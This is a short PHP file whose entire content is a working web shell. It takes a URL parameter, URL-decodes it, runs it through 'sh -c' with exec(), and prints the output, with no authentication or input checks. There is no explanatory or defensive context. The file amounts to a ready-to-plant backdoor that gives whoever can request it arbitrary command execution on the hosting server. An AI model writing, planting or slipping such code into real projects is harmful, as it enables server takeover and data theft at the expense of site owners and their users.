<?php
$c = urldecode($_GET['q']);
$out = [];
exec("sh -c " . $c, $out);
print_r($out);
